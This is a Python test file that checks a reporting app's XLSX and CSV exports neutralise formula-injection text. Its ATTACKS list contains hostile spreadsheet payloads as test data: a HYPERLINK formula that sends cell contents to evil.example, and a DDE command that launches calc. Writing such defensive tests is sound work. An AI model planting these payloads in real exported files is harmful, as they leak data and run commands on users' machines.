"""Exports never carry a live formula: stored text that starts like a formula (= + - @, tab, line
break) comes back from the produced file as the same text in a plain string cell (XLSX) or behind an
apostrophe (CSV), read back with openpyxl, the XML of the sheet and csv.reader."""
import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.exports import CsvWriter, formula_like, workbook_bytes
from core.extensions import db
from tests.reports.test_hotline_measures import dep, week  # noqa: F401  (fixture)
from tests.reports.test_report_runs import PERIOD, _post

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"]
PLAIN = ["民政局", "a=b", "", "3-2", "总计 = 6"]


def test_which_text_is_formula_like():
    assert all(formula_like(text) for text in ATTACKS)
    assert not any(formula_like(text) for text in PLAIN)
    assert not formula_like(-5) and not formula_like(None)  # numbers stay numbers


def _sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [z.read(name).decode() for name in z.namelist() if name.startswith("xl/worksheets/sheet")]


def test_workbook_cells_are_text_not_formulas():
    wb = Workbook()
    wb.active.append(ATTACKS + PLAIN + [-5, 0.5])
    content = workbook_bytes(wb)
    assert not any("<f>" in xml or "<f " in xml for xml in _sheet_xml(content))
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows())
    # the text itself, unchanged (an XML reader turns a bare CR into LF)
    assert [c.value for c in row[:len(ATTACKS)]] == [text.replace("\r", "\n") for text in ATTACKS]
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:len(ATTACKS)])
    plain = row[len(ATTACKS):len(ATTACKS) + len(PLAIN)]
    assert not any(c.quotePrefix for c in plain)
    assert [c.value for c in row[-2:]] == [-5, 0.5] and row[-1].data_type == "n"


def test_csv_cells_get_an_apostrophe():
    out = io.StringIO()
    CsvWriter(out).writerow(ATTACKS + PLAIN + [-5])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[:len(ATTACKS)] == ["'" + text for text in ATTACKS]
    assert cells[len(ATTACKS):] == ["民政局", "a=b", "", "3-2", "总计 = 6", "-5"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/","点此")', "@SUM(1,1)"])
def test_hotline_export_keeps_a_department_name_as_text(client, as_role, week, name):  # noqa: F811
    """A department whose stored name starts like a formula, through the real report job and download."""
    dep("sthjj").name = name
    db.session.commit()
    as_role("supervisor")
    assert _post(client, {"kind": "hotline_xlsx", **PERIOD}).status_code == 302
    from reports.models import ReportRun
    content = client.get(f"/reports/runs/{ReportRun.query.one().id}/file").data
    assert not any("<f>" in xml or "<f " in xml for xml in _sheet_xml(content))
    wb = load_workbook(io.BytesIO(content))
    cells = [c for row in wb["承办部门"].iter_rows() for c in row if c.value == name]
    cells += [c for row in wb["部门排名"].iter_rows() for c in row if c.value == name]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
